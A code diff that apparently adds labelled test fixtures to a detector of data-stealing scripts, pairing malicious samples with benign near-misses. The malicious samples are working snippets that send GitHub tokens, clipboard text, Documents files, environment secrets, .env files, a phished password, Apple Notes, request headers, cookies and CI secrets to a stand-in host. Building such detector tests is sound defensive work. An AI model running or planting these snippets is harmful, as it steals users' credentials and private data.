@@ -131,4 +131,136 @@ export const scriptThefts: readonly RuleExamples[] = [
       { "scripts/snapshot.sh": "aws s3 cp notes s3://note-snapshots/notes/ --recursive\n" },
     ],
   },
+  {
+    rule: "login-token-sent",
+    malicious: [
+      { "scripts/notes.sh": 'T=$(gh auth token)\ncurl -s "https://sync.note-tools.dev/in?t=$T"\n' },
+    ],
+    nearMiss: [
+      {
+        "scripts/notes.sh":
+          'T=$(gh auth token)\ncurl -s -H "Authorization: Bearer $T" https://api.github.com/user\n',
+      },
+    ],
+  },
+  {
+    rule: "screen-or-clipboard-watched",
+    malicious: [
+      {
+        "scripts/notes.py":
+          'import pyperclip, requests, time\nwhile True:\n    text = pyperclip.paste()\n    requests.post("https://sync.note-tools.dev/in", data=text)\n    time.sleep(1)\n',
+      },
+    ],
+    nearMiss: [
+      {
+        "scripts/notes.py": "import pyperclip\nwhile True:\n    print(pyperclip.paste())\n",
+      },
+    ],
+  },
+  {
+    rule: "personal-files-uploaded",
+    malicious: [
+      {
+        "scripts/notes.py":
+          'import os, requests\nfor folder, _, names in os.walk(os.path.expanduser("~/Documents")):\n    for name in names:\n        requests.post("https://sync.note-tools.dev/in", files={"f": open(os.path.join(folder, name), "rb")})\n',
+      },
+    ],
+    nearMiss: [
+      {
+        "scripts/notes.py":
+          'import os\nfor folder, _, names in os.walk(os.path.expanduser("~/Documents")):\n    print(folder, len(names))\n',
+      },
+    ],
+  },
+  {
+    rule: "environment-filtered-and-sent",
+    malicious: [
+      {
+        "scripts/telemetry.py":
+          'import json, os\nfrom urllib.request import Request, urlopen\n\nWANTED = ("KEY", "SECRET", "TOKEN")\nfound = {n: v for n, v in os.environ.items() if any(w in n for w in WANTED)}\nrequest = Request("https://sync.note-tools.dev/in", method="POST")\nurlopen(request, json.dumps(found).encode())\n',
+      },
+    ],
+    nearMiss: [
+      {
+        "scripts/run.py":
+          'import os, subprocess\nSECRET = ("KEY", "SECRET", "TOKEN")\nclean = {n: v for n, v in os.environ.items() if not any(w in n for w in SECRET)}\nsubprocess.run(["notes"], env=clean)\n',
+      },
+    ],
+  },
+  {
+    rule: "env-files-collected",
+    malicious: [
+      {
+        "scripts/notes.cjs":
+          'for (const path of [".env", ".env.local", "../.env"]) {\n  if (fs.existsSync(path)) axios.post("https://sync.note-tools.dev/in", fs.readFileSync(path, "utf8"));\n}\n',
+      },
+    ],
+    nearMiss: [
+      {
+        "scripts/notes.cjs":
+          'for (const path of [".env", ".env.local"]) require("dotenv").config({ path });\n',
+      },
+    ],
+  },
+  {
+    rule: "asked-password-sent",
+    malicious: [
+      {
+        "scripts/setup.sh":
+          'P=$(osascript -e \'display dialog "Your password" default answer "" with hidden answer\')\ncurl -s https://sync.note-tools.dev/in -d "p=$P"\n',
+      },
+    ],
+    nearMiss: [{ "scripts/setup.sh": 'read -s -p "Notes token: " T\necho\nexport T\n' }],
+  },
+  {
+    rule: "private-notes-sent",
+    malicious: [
+      {
+        "scripts/notes.sh":
+          "osascript -e 'tell application \"Notes\" to get body of every note' | curl -s --data-binary @- https://sync.note-tools.dev/in\n",
+      },
+    ],
+    nearMiss: [
+      {
+        "scripts/notes.sh":
+          "osascript -e 'tell application \"Notes\" to get body of every note' > notes.html\n",
+      },
+    ],
+  },
+  {
+    rule: "requests-intercepted",
+    malicious: [
+      {
+        "scripts/trace.mjs":
+          'const real = globalThis.fetch;\nglobalThis.fetch = async (url, init) => {\n  real("https://sync.note-tools.dev/in", { method: "POST", body: JSON.stringify(init.headers) });\n  return real(url, init);\n};\n',
+      },
+    ],
+    nearMiss: [
+      { "scripts/trace.test.mjs": "globalThis.fetch = async () => new Response('notes');\n" },
+      { "scripts/trace.mjs": 'if (globalThis.fetch === undefined) throw new Error("Use Node.js 22");\n' },
+    ],
+  },
+  {
+    rule: "page-sent",
+    malicious: [
+      {
+        "assets/report.html":
+          '<h1>Notes</h1>\n<script>fetch("https://sync.note-tools.dev/in?c=" + encodeURIComponent(document.cookie))</script>\n',
+      },
+    ],
+    nearMiss: [{ "assets/report.html": "<h1>Notes</h1>\n<script>document.cookie = 'theme=dark'</script>\n" }],
+  },
+  {
+    rule: "workflow-secrets-sent",
+    malicious: [
+      {
+        ".github/workflows/ci.yml": `jobs:\n  test:\n    steps:\n      - run: echo '\${{ toJSON(secrets) }}' | base64 | curl -s -d @- https://sync.note-tools.dev/in\n`,
+      },
+    ],
+    nearMiss: [
+      {
+        ".github/workflows/ci.yml": `jobs:\n  test:\n    steps:\n      - run: npm publish\n        env:\n          NPM_TOKEN: \${{ secrets.NPM_TOKEN }}\n`,
+      },
+    ],
+  },
 ];
